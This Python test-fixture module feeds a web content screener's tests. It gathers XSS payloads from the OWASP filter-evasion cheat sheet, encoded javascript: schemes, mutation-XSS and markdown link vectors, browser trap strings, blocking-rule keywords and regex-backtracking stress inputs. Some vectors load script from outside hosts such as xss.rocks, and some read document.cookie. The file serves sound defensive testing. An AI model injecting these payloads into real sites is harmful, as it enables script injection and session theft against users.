"""Every hostile string the test suite knows, in one place.

Used by the screening tests (``tests/unit/test_security_content.py``), the
renderer's property test (``tests/unit/test_render.py``, which renders every
one of them), the end-to-end content tests
(``tests/integration/test_security_content.py``) and the browser tests.

- :data:`HOSTILE` -- the OWASP XSS Filter Evasion Cheat Sheet (and a few
  markdown, mutation-XSS and escaped-scheme vectors), each with the reason
  ``security.content.find_hostile`` gives: ``strict`` refuses them with it,
  ``standard`` delivers them as text and records it.
- :data:`END_TO_END` -- what the integration tests send over real sockets.
- :data:`FRAGMENTS`, :data:`NEAR_MISSES` -- pieces hypothesis strings are built from.
- :data:`ISSUE_20_TABLE` -- the five messages of issue #20's table.
- :func:`adversarial` -- inputs at the size limit built to make a backtracking
  matcher (or a renderer) do more than linear work (issue #17).
"""

from __future__ import annotations

SCRIPT, HANDLER, OBFUSCATED = "script_injection", "event_handler", "obfuscated_url"
MARK = "XSSMARK"

HOSTILE: list[tuple[str, str]] = [
    ('<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>', SCRIPT),
    ('javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>', SCRIPT),
    ('<IMG SRC="javascript:alert(\'XSS\');">', SCRIPT),
    ("<IMG SRC=JaVaScRiPt:alert('XSS')>", SCRIPT),
    ('<IMG SRC=javascript:alert(&quot;XSS&quot;)>', SCRIPT),
    ('<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', SCRIPT),
    ('<a onmouseover="alert(document.cookie)">xxs link</a>', HANDLER),
    ('<a onmouseover=alert(document.cookie)>xxs link</a>', HANDLER),
    ('<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', SCRIPT),
    ('<IMG SRC=# onmouseover="alert(\'xxs\')">', HANDLER),
    ('<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', HANDLER),
    ('<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>', SCRIPT),
    ('<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>', SCRIPT),
    ('<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>', SCRIPT),
    ('<IMG SRC="jav\tascript:alert(\'XSS\');">', SCRIPT),
    ('<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">', SCRIPT),
    ('<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">', SCRIPT),
    ('<IMG SRC=" &#14;  javascript:alert(\'XSS\');">', SCRIPT),
    ('<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>', SCRIPT),
    ('<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', HANDLER),
    ('<<SCRIPT>alert("XSS");//\\<</SCRIPT>', SCRIPT),
    ('<SCRIPT SRC=//xss.rocks/.j>', SCRIPT),
    ('<iframe src=http://xss.rocks/scriptlet.html <', SCRIPT),
    ('</TITLE><SCRIPT>alert("XSS");</SCRIPT>', SCRIPT),
    ('<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', SCRIPT),
    ('<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>', SCRIPT),
    ("<svg/onload=alert('XSS')>", HANDLER),
    ("<BODY ONLOAD=alert('XSS')>", HANDLER),
    ('<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">', SCRIPT),
    ('<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', SCRIPT),
    ('<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">', SCRIPT),
    ('<DIV STYLE="width: expression(alert(\'XSS\'));">', SCRIPT),
    ('<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>', SCRIPT),
    ('<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==" type="image/svg+xml">', SCRIPT),
    ('<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>', OBFUSCATED),
    ('<A HREF="http://1113982867/">XSS</A>', OBFUSCATED),
    ('<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>', OBFUSCATED),
    ('<A HREF="http://0102.0146.0007.00000223/">XSS</A>', OBFUSCATED),
    ('<a href="jav&#x61;script:alert(1)">x</a>', SCRIPT),
    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', HANDLER),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', HANDLER),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', SCRIPT),
    ('[click](javascript:alert(1))', SCRIPT),
    ('[click](JaVaScRiPt:alert(1))', SCRIPT),
    ('<javascript:alert(1)>', SCRIPT),
    ('[a](data:text/html;base64,PHNjcmlwdD4=)', SCRIPT),
    ('%3Cscript%3Ealert(1)%3C/script%3E', SCRIPT),
    ('\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', SCRIPT),
    ('\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', SCRIPT),
    ('＜script＞alert(1)＜/script＞', SCRIPT),
    ('%68%74%74%70://evil.example', OBFUSCATED),
    ('\\u0068ttps://evil.example', OBFUSCATED),
    ('&#x68;&#x74;&#x74;&#x70;&#x73;://evil.example', OBFUSCATED),
    ('<a href="vbscript:msgbox(1)">x</a>', SCRIPT),
    ('<details open ontoggle=alert(1)>', HANDLER),
    ('<form><button formaction=javascript:alert(1)>X</button></form>', SCRIPT),
    ('<a href="&#1;javascript:alert(1)">x</a>', SCRIPT),
    ('&lt;script&gt;alert(1)&lt;/script&gt;', SCRIPT),
    ('<b onclick=alert(1)>bold</b>', HANDLER),
    ('<a href="https://ok.example/" target=_blank onclick="x()">ok</a>', HANDLER),
]

#: (name, contentType, content, reason under strict): sent over real sockets by the integration tests.
END_TO_END: list[tuple[str, str, str, str]] = [
    ("script-tag", "text", f"<script>alert('{MARK}')</script>", SCRIPT),
    ("script-mixed-case", "text", f"<ScRiPt>{MARK}</sCrIpT>", SCRIPT),
    ("script-split", "text", "<scr<script>ipt>alert(1)</script>", SCRIPT),
    ("script-entities", "text", "&lt;script&gt;alert(1)&lt;/script&gt;", SCRIPT),
    ("img-onerror", "text", "<img src=x onerror=alert(1)>", HANDLER),
    ("svg-onload", "markdown", "<svg onload=alert(1)>", HANDLER),
    ("body-onload", "text", "<body onload=alert(1)>", HANDLER),
    ("a-onmouseover", "markdown", '<a href="https://ok.example" onmouseover="alert(1)">hover</a>', HANDLER),
    ("iframe", "markdown", "<iframe src=//evil.example></iframe>", SCRIPT),
    ("object-data", "text", '<object data="evil.swf"></object>', SCRIPT),
    ("css-expression", "markdown", '<p style="width:expression(alert(1))">x</p>', SCRIPT),
    ("markdown-js-link", "markdown", "[click](javascript:alert(1))", SCRIPT),
    ("html-js-link", "markdown", '<a href="javascript:alert(1)">x</a>', SCRIPT),
    ("js-with-tab", "text", "java\tscript:alert(1)", SCRIPT),
    ("js-entity", "text", "&#106;avascript:alert(1)", SCRIPT),
    ("js-percent", "text", "%6Aavascript:alert(1)", SCRIPT),
    ("js-unicode-escape", "text", "\\u006aavascript:alert(1)", SCRIPT),
    ("js-fullwidth", "text", "ｊａｖａｓｃｒｉｐｔ:alert(1)", SCRIPT),
    ("data-html", "text", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", SCRIPT),
    ("obfuscated-host", "text", "see http://%65vil.example/", OBFUSCATED),
    ("decimal-ip-host", "text", "see http://3232235777/", OBFUSCATED),
]

#: Markup nobody would flag, which used to be rewritten: now delivered exactly as typed.
HARMLESS_MARKUP: list[tuple[str, str, str]] = [
    ("plain-tags", "text", "<b>bold</b> and <i>italic</i>"),
    ("style-content", "text", f"<style>body{{display:none}} {MARK}</style>visible"),
    ("comparisons", "text", "a < b && c > d"),
    ("encoded-tag", "text", "&lt;b&gt;not a tag&lt;/b&gt;"),
    ("data-image-url", "text", "see data:image/png;base64,iVBORw0KGgo= here"),
    ("title-textarea", "text", f"<title>{MARK}</title>ok <textarea>{MARK}</textarea>"),
    ("noscript", "text", f"<noscript>{MARK}</noscript>after"),
    ("comment", "text", f"x <!-- {MARK} --> y"),
    ("svg-content", "text", f"<svg><desc>{MARK}</desc></svg>ok"),
    ("link-in-text", "text", '<a href="http://ok.example">link</a>'),
    ("markdown-allowed", "markdown", "**bold** <u>under</u> <b>b</b>"),
    ("markdown-link", "markdown", "[ok](https://ok.example/) and <https://auto.example/>"),
    ("markdown-relative-link", "markdown", "[r](/relative)"),
    ("markdown-ftp-link", "markdown", "[f](ftp://x.example/)"),
    ("markdown-data-image", "markdown", "![img](data:image/png;base64,AAAA)"),
    ("markdown-style", "markdown", f"<style>{MARK}</style><p>para</p>"),
    ("markdown-img", "markdown", '<img src="https://x.example/a.png">pic ![alt](https://x.example/b.png)'),
    ("markdown-math", "markdown", f"<math><mi>{MARK}</mi></math>fine"),
    ("markdown-code", "markdown", "```html\n<script>alert(1)</script>\n```\nand `<img onerror=x>`"),
]

#: Issue #20's table: refused before, accepted and shown verbatim now (the first four are refused under strict).
ISSUE_20_TABLE: list[tuple[str, str | None]] = [
    ("How do I add <script src='x.js'></script> to my page?", SCRIPT),
    ("hello <b>bold</b> <script>alert(1)</script>", SCRIPT),
    ("javascript:alert(1)", SCRIPT),
    ("<img src=x onerror=alert(1)>", HANDLER),
    ("use if (a < b && c > d) in JS", None),
]

#: Strings that try to run something in a browser that treated text as HTML (the browser tests' traps).
BROWSER_TRAPS = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=2</script>",
    "[click me](javascript:window.__pwned=3)",
    '<a href="javascript:window.__pwned=4">link</a> &lt;b&gt;',
    '<svg><script>window.__pwned=5</script></svg>',
    '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
    "![x](x onerror=window.__pwned=7)",
    '<details open ontoggle="window.__pwned=8">',
]

FRAGMENTS = [
    "<", ">", "&", ";", "#", "x", ":", "/", '"', "'", "`", "=", " ", "\t", "\n", "\x00",
    "script", "SCRIPT", "java", "javascript", "JaVaScRiPt", "vbscript", "data", "on", "onerror", "onload",
    "&lt;", "&gt;", "&amp;", "&#x3C;", "&#60;", "&#58;", "&colon;", "&#x6A;", "%3C", "\\x3c", "\\u003c",
    "<script>", "</script>", "<img src=x ", "<a href=", "<svg/", "<!--", "-->", "<![CDATA[", "]]>",
    "<style>", "<iframe>", "<noscript>", "<textarea>", "<math>", "<b>", "<p ", "</", "[x](", ")",
]  # fmt: skip

#: Words the blocking rules look for, so that generated text comes close to them.
NEAR_MISSES = [
    "javascript", "vbscript", "data", "script", "iframe", "object", "embed", "onload", "onerror", "expression(",
    "-moz-binding", "behavior", "http", "https", "www.", "0x7f", "017700000001", "2130706433", "text/html", "=",
    "/", "//", "://", " ", "\t", "\n", ";", ",", "(", ")", "'", '"', "`", ">", "#", "x", ":",
]  # fmt: skip

#: Markdown syntax, so that generated text exercises the renderer's every rule.
MARKDOWN_FRAGMENTS = [
    "*", "**", "_", "__", "`", "```", "~~", "[", "]", "(", ")", "![", "<", ">", "\n", "\n\n", "# ", "- ", "1. ",
    "> ", "    ", "|", "|---|", "\\", "[a]: ", "http://x.example", "mailto:a@b.example", "javascript:x", "data:x",
    "<https://a.example>", "<javascript:x>", '"', "'", "&#", "&lt;", "---", "***", "\t",
]  # fmt: skip


def adversarial(limit: int = 10_000) -> dict[str, str]:
    """Inputs of at most ``limit`` characters built against backtracking matchers and renderers (issue #17)."""

    def fill(unit: str, prefix: str = "", suffix: str = "") -> str:
        room = limit - len(prefix) - len(suffix)
        return prefix + (unit * (room // len(unit) + 1))[:room] + suffix

    return {
        "lt-then-spaces": fill(" ", "<"),  # the finding: "<" + " " * 9999 froze a worker for 2.6 s
        "lt-spaces-slash-spaces": "<" + " " * (limit // 2 - 1) + "/" + " " * (limit // 2 - 1),
        "lt-then-tabs-and-controls": fill("\t\x01", "<"),
        "many-lt": fill("<"),
        "tag-starts": fill("<a "),
        "handler-names": fill(" onxx", "<a"),
        "handler-name-then-controls": fill("\x01", "<a onabc"),
        "tag-then-spaces-then-on": fill(" ", "<a ", "on"),
        "scheme-letters": fill("javascript"),
        "scheme-with-tabs": fill("java\t"),
        "scheme-letter-then-spaces": fill(" ", "j"),
        "scheme-end-then-controls": fill("\x01", "t"),
        "spaced-scheme": fill("j a v a s c r i p t "),
        "entity-starts": fill("&#"),
        "entities": fill("&amp;"),
        "lt-entities": fill("&lt;"),
        "hex-entities": fill("&#x41;"),
        "percents": fill("%"),
        "percent-escapes": fill("%41"),
        "js-escapes": fill("\\x41"),
        "js-brace-escapes": fill("\\u{41}"),
        "url-starts": fill("http://"),
        "url-then-letters": fill("a", "http://"),
        "url-then-percents": fill("%", "https://"),
        "url-then-at-signs": fill("@", "http://"),
        "url-numbers": fill("http://1234567"),
        "comments": fill("<!--"),
        "attribute-starts": fill("<a href='"),
        "active-tag-then-letters": fill("a", "<object "),
        "data-then-letters": fill("a", "data:"),
        "css-starts": fill("<a expression "),
        "fullwidth": fill("ｊａｖａ "),
        "expanding-compatibility-characters": fill("\ufdfa"),  # NFKC makes each one 18 characters
        "runs-just-under-the-flood": fill("a" * 50 + "b"),
        "one-character": fill("a"),
        "markdown-brackets": fill("["),
        "markdown-image-starts": fill("!["),
        "markdown-link-starts": fill("[a]("),
        "markdown-emphasis": fill("*a"),
        "markdown-mixed-emphasis": fill("**_"),
        "markdown-backticks": fill("`"),
        "markdown-quotes": fill(">"),
        "markdown-list-markers": fill("- "),
        "markdown-reference-definitions": fill("[a]: b\n"),
        "markdown-nested-lists": "".join("  " * (n % 40) + "- x\n" for n in range(limit))[:limit],
        "markdown-table": fill("|a", suffix=""),
    }


def every_hostile_string() -> list[str]:
    """Each string of the lists above, once."""
    strings = [vector for vector, _ in HOSTILE]
    strings += [content for _, _, content, _ in END_TO_END]
    strings += [content for _, _, content in HARMLESS_MARKUP]
    strings += [content for content, _ in ISSUE_20_TABLE]
    strings += BROWSER_TRAPS + FRAGMENTS + NEAR_MISSES + MARKDOWN_FRAGMENTS
    strings += list(adversarial().values())
    return list(dict.fromkeys(strings))
